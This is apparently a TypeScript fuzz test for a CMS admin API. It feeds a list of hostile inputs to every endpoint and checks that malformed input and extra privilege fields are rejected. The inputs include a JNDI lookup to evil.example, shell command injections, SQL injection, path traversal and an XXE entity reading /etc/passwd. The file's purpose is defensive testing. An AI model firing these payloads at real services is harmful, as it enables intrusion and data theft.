import { sql } from 'drizzle-orm';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { post } from '#database/schema.ts';
import { emptyDatabase } from '#test/support/databases.ts';
import { hostileHtml } from '#test/support/hostile-html.ts';
import { isStress } from '#test/support/stress.ts';
import { createSaveRequest, sendAsOwner, startAdminTestServer } from '../support/start-admin-server.ts';

const fixed = [
  '',
  ' ',
  '0',
  '-1',
  '1e999',
  'NaN',
  'null',
  'undefined',
  'true',
  '[object Object]',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '1/0',
  '0x7fffffffffffffff',
  '9'.repeat(400),
  '../../../../etc/passwd',
  'C:\\con\\con',
  '%s%n%x',
  '%00',
  '%2e%2e%2f',
  '\x24{jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '<%= 7 %>',
  '$(touch x)',
  '`id`',
  '| ls',
  '; rm',
  "'; drop table post; --",
  "' or 1=1 --",
  '" or ""="',
  '\\',
  "\\'",
  '*)(uid=*',
  '\r\nSet-Cookie: a=b',
  '\r\n\r\nHTTP/1.1 200',
  '\u0000',
  '\u0008',
  '\u001b[31m',
  '\u007f',
  '\u0085',
  '\u200b',
  '\u200e',
  '\u202e',
  '\u2028',
  '\ufeff',
  '\ufffe',
  '\uffff',
  '\ud800',
  '\udfff\ud800',
  'ÅÍÎÏ˝ÓÔ',
  'ﷺ',
  'z̴̡͠a̶̢͝l̷͘͜g̷͙͐o̴',
  '👩‍👩‍👧‍👦',
  '🏳️‍⚧️',
  '٠١٢',
  'ｆｕｌｌ',
  'İıſﬃ',
  '表ポあA鷗',
  'ส็็็็็็็',
  '﷽',
  'con',
  'nul.txt',
  '.htaccess',
  '-rf',
  '--help',
  '~',
  '//evil.example',
  'javascript:alert(1)',
  'data:text/html,x',
  'a'.repeat(5_000),
  '<!--',
  ']]>',
  '</script>',
  '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>',
  '=1+1',
  '@SUM(1)',
];
const odd = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...fixed) },
  { weight: 1, arbitrary: hostileHtml },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 400 }) },
  { weight: 1, arbitrary: fc.array(fc.constantFrom(...fixed), { maxLength: 4 }).map((all) => all.join('')) },
);

/** Joins the strings into texts of at most `lengthMax` characters; longer ones stay separate. */
function packTexts(lengthMax: number): string[] {
  const texts: string[] = [''];
  for (const text of fixed) {
    const longer = `${texts.at(-1)} ${text}`;
    if (longer.length <= lengthMax) texts[texts.length - 1] = longer;
    else texts.push(text);
  }
  return texts;
}
/** Values that matter only on their own. */
const standalone = ['', '__proto__', '\u0000', '\ud800'];
/** Endpoints with names, which have a lower length limit than titles and slugs. */
const nameEndpoints = /categories|tags|styles/;

const localized = (text: string) => ({ en: text, de: text });
const fields = (text: string) => ({
  title: text,
  slug: text,
  excerpt: text,
  content: text,
  featured_image_url: text,
  featured_image_alt: text,
  category_id: text,
  tag_ids: [text],
  seo_title: text,
  seo_description: text,
  seo_keywords: [text],
});
/** Every endpoint that accepts text, with the text in each of its fields. */
const calls = (text: string): [method: string, path: string, bodies: object[]][] => [
  [
    'POST',
    '/functions/v1/extract-threads-media',
    [{ url: text }, { downloadUrl: text, filename: text }, { [text]: text }],
  ],
  [
    'POST',
    '/functions/v1/generate-content',
    [
      ...['slug', 'excerpt', 'seo', text].map((type) => ({ type, title: text, content: text })),
      { type: 'slug', title: text, locale: text },
    ],
  ],
  ['POST', '/api/accounts/sign-in', [{ email: text, password: text }]],
  [
    'POST',
    '/api/admin/posts',
    [
      ...Object.entries(fields(text)).map(([name, value]) => ({
        mode: 'save',
        locale: 'en',
        fields: { title: 'x', [name]: value },
      })),
      { mode: text, locale: text, article_id: text, scheduled_at: text, fields: {} },
    ],
  ],
  [
    'POST',
    '/api/admin/categories',
    [
      { names: localized(text), descriptions: localized(text), slug: text, color: '#123456' },
      { names: { en: 'x', [text]: 'y' }, color: text },
    ],
  ],
  ['POST', '/api/admin/tags', [{ names: localized(text), slug: text }]],
  [
    'PUT',
    '/api/admin/translation/styles/de',
    [{ address: 'formal', style: text, terms: [{ source: text, target: text }] }, { [text]: [text] }],
  ],
  ['POST', '/api/admin/pictures/fetch', [{ url: text }, { url: `https://${text}` }]],
  ['POST', `/api/admin/posts/${encodeURIComponent(text.toWellFormed())}/status`, [{ status: text }]],
];

test('any string in any field is either accepted or rejected', { timeout: 600_000 }, async () => {
  await using database = await emptyDatabase();
  await using server = await startAdminTestServer({ overrides: { database } });
  const everywhere = isStress
    ? [...standalone, ...fixed, ...fc.sample(odd, 60)]
    : [...standalone.filter((_, index) => index % 4 === 0), ...fc.sample(odd, 1)];
  const all = [
    ...everywhere.flatMap(calls),
    ...packTexts(190).flatMap((text) => calls(text).filter(([, path]) => !nameEndpoints.test(path))),
    ...packTexts(78).flatMap((text) => calls(text).filter(([, path]) => nameEndpoints.test(path))),
  ];
  for (const [method, path, bodies] of all) {
    const responses = bodies.map(
      async (body) => [body, await sendAsOwner(server, method, path, JSON.stringify(body))] as const,
    );
    for (const [body, { status }] of await Promise.all(responses)) {
      // 503: no model is configured.
      expect([path, JSON.stringify(body).slice(0, 300), status < 500 || status === 503]).toEqual([
        path,
        JSON.stringify(body).slice(0, 300),
        true,
      ]);
    }
  }
  expect(Object.keys(Object.prototype)).toEqual([]);
  for (const { slug, title } of await database.query.select().from(post)) {
    expect(slug).toMatch(/^[\p{L}\p{N}\p{M}_-]+$/u);
    expect(slug.length).toBeLessThanOrEqual(200);
    expect(title).not.toMatch(/[\p{Cc}\p{Cs}]/u);
  }
});

const extra = {
  id: '0199c7f0-7a11-4a2b-9c3d-1e2f3a4b5c6d',
  role: 'owner',
  authorId: 'x',
  author_id: 'x',
  is_admin: true,
  created_at: '2000-01-01T00:00:00Z',
  createdAt: '2000-01-01T00:00:00Z',
  published_at: '2000-01-01T00:00:00Z',
  version: 99,
  origin: 'human',
  email_verified: true,
};

test('each unknown field is rejected and changes nothing', async () => {
  await using database = await emptyDatabase();
  await using server = await startAdminTestServer({ overrides: { database } });
  const created = (
    await server.request('author', 'POST /posts', { body: createSaveRequest({}, { locale: 'en' }) })
  ).body;
  const categoryInput = { names: { en: 'Category' }, descriptions: {}, slug: '', color: '#123456' };
  const { body: category } = await server.request('owner', 'POST /categories', { body: categoryInput });
  const { body: tag } = await server.request('owner', 'POST /tags', {
    body: { names: { en: 'Tag' }, slug: '' },
  });
  const rows = () =>
    database.query
      .select({
        posts: sql<unknown>`(select jsonb_agg(p order by p.id) from post p)`,
        categories: sql<unknown>`(select jsonb_agg(c order by c.id) from category c)`,
        tags: sql<unknown>`(select jsonb_agg(t order by t.id) from tag t)`,
      })
      .from(sql`installation`);
  const before = await rows();
  const save = createSaveRequest({}, { locale: 'en' });
  for (const [name, value] of Object.entries(extra)) {
    const more = { [name]: value };
    const requests = [
      server.request('author', 'POST /posts', { body: { ...save, ...more } }),
      server.request('author', 'POST /posts', { body: { ...save, fields: { ...save.fields, ...more } } }),
      server.request('author', `PUT /posts/${created.id}`, {
        version: 1,
        body: { ...createSaveRequest(), ...more },
      }),
      server.request('owner', `POST /posts/${created.id}/status`, {
        version: 1,
        body: { status: 'draft', ...more },
      }),
      server.request('owner', 'POST /categories', { body: { ...categoryInput, ...more } }),
      server.request('owner', `PUT /categories/${category.id}`, { body: { ...categoryInput, ...more } }),
      server.request('owner', 'POST /tags', { body: { names: { en: 'Other' }, slug: '', ...more } }),
      server.request('owner', `PUT /tags/${tag.id}`, { body: { names: { en: 'Other' }, slug: '', ...more } }),
    ];
    const statuses = (await Promise.all(requests)).map(({ status }) => status);
    expect([name, ...statuses]).toEqual([name, ...requests.map(() => 400)]);
  }
  expect(await rows()).toEqual(before);
});
